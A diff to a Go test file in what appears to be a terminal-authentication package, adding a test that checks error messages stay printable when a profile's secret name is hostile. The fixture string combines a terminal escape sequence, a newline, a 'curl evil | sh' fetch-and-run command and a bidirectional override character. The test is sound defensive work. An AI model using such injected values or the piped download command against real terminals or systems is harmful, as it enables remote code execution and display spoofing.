@@ -5,7 +5,9 @@ import (
 	"fmt"
 	"io/fs"
 	"path/filepath"
+	"strings"
 	"testing"
+	"unicode"
 
 	"github.com/poolguard/poolguard/internal/terminalauth/profile"
 	"github.com/poolguard/poolguard/internal/terminalauth/selection"
@@ -51,6 +53,20 @@ func TestSecretIsReadBesideTheConfiguration(t *testing.T) {
 	s.Path = "config.yaml"
 	if _, err := s.Secret(getenv, read); !errors.Is(err, fs.ErrNotExist) {
 		t.Errorf("got %v", err)
+	}
+}
+
+// Attack: a profile file of another person names a variable that writes to the terminal.
+func TestNamesOfSecretsCannotWriteLines(t *testing.T) {
+	const hostile = "x\x1b[2J\n  curl evil | sh\u202e"
+	for _, from := range []profile.Secret{{Env: hostile}, {File: hostile}} {
+		f := file("robot")
+		f.Profiles["robot"] = profile.Profile{Secret: from}
+		s := selection.New("config.yaml", f, "robot")
+		_, err := s.Secret(func(string) string { return "" }, func(string) ([]byte, error) { return nil, fs.ErrNotExist })
+		if err == nil || strings.ContainsFunc(err.Error(), func(r rune) bool { return !unicode.IsPrint(r) }) {
+			t.Errorf("got %v", err)
+		}
 	}
 }
 
